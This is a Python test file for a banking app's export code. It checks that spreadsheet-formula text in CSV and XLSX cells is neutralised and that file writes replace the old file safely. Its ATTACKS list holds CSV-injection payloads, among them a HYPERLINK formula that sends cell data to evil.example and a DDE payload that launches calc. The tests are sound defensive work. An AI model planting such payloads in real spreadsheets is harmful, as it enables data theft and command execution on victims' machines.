"""No cell of a CSV or XLSX BranchDesk writes is a formula; a refused write leaves the old file."""

from __future__ import annotations

import csv
import io
import os
import stat
from datetime import date, datetime, timezone
from pathlib import Path

import pytest
from openpyxl import load_workbook

from app.domain.cell_safety import neutralise, safe_row
from app.domain.errors import ValidationError
from app.output_files import replacing, write_bytes
from app.services.audit import AuditEntryView, entries_csv
from app.services.report_export import to_csv, to_xlsx
from app.services.reports import BranchReport, ReportKind, ReportScope, ReportTable

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"点此")', "+SUM(1,2)", "-2+3", "@cmd|' /C calc'!A0",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", ATTACKS)
def test_text_that_would_start_a_formula_is_quoted(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["张三", "-12.5", "+86", "3", 42, -7.5, None, "", "a=b", "—"])
def test_everything_else_is_left_as_it_is(value: object) -> None:
    assert neutralise(value) == value


def test_audit_csv_neutralises_a_user_name_typed_at_sign_in() -> None:
    entry = AuditEntryView(id=1, at=datetime(2026, 12, 2, tzinfo=timezone.utc), branch_id=None,
                           username="=HYPERLINK(1)", action="login_failed", target_type=None, target_id=None,
                           detail={"typed": "@SUM(1)"})
    [header, row] = list(csv.reader(io.StringIO(entries_csv([entry]))))
    assert row[header.index("username")] == "'=HYPERLINK(1)"


def _report(name: str) -> BranchReport:
    table = ReportTable(key="tellers", title="柜员", columns=("柜员", "服务笔数"), rows=((name, 3), ("李四", -1)))
    return BranchReport(kind=ReportKind.DAILY, title="日报", period="2026-12-02",
                        scope=ReportScope((1,), date(2026, 12, 2), date(2026, 12, 2)), branch_names=("示范支行",),
                        generated_at=datetime(2026, 12, 2, tzinfo=timezone.utc), generated_by="@admin",
                        tables=(table,))


def test_report_csv_and_xlsx_hold_text_not_formulas() -> None:
    report = _report(ATTACKS[0])
    rows = list(csv.reader(io.StringIO(to_csv(report).decode("utf-8-sig"))))
    assert ["'" + ATTACKS[0], "3"] in rows and ["生成人", "'@admin"] in rows
    book = load_workbook(io.BytesIO(to_xlsx(report)))
    sheet = book["柜员"]
    assert sheet["A2"].value == "'" + ATTACKS[0] and sheet["A2"].data_type == "s"
    assert sheet["B2"].value == 3 and sheet["B3"].value == -1  # numbers stay numbers
    assert all(cell.data_type != "f" for ws in book for line in ws.iter_rows() for cell in line)


def test_safe_row_keeps_the_order() -> None:
    assert safe_row(["=1", 2, "x"]) == ["'=1", 2, "x"]


def test_a_failed_write_leaves_the_old_file_and_no_temporary(tmp_path: Path) -> None:
    target = tmp_path / "export.csv"
    target.write_text("yesterday's export\n", encoding="utf-8")
    with pytest.raises(PermissionError):
        with replacing(target, "w", encoding="utf-8") as out:
            out.write("header\n")
            raise PermissionError("refused halfway")
    assert target.read_text(encoding="utf-8") == "yesterday's export\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["export.csv"]


def test_a_replaced_file_keeps_its_permissions_and_a_new_one_follows_the_umask(tmp_path: Path) -> None:
    kept = tmp_path / "kept.pdf"
    kept.write_bytes(b"old")
    os.chmod(kept, 0o640)
    write_bytes(kept, b"%PDF new")
    assert kept.read_bytes() == b"%PDF new" and stat.S_IMODE(kept.stat().st_mode) == 0o640
    umask = os.umask(0o022)
    try:
        write_bytes(tmp_path / "new.pdf", b"%PDF")
    finally:
        os.umask(umask)
    assert stat.S_IMODE((tmp_path / "new.pdf").stat().st_mode) == 0o644


def test_a_missing_folder_is_named_before_anything_is_written(tmp_path: Path) -> None:
    with pytest.raises(ValidationError, match="no-such-folder does not exist"):
        write_bytes(tmp_path / "no-such-folder" / "r.pdf", b"%PDF")
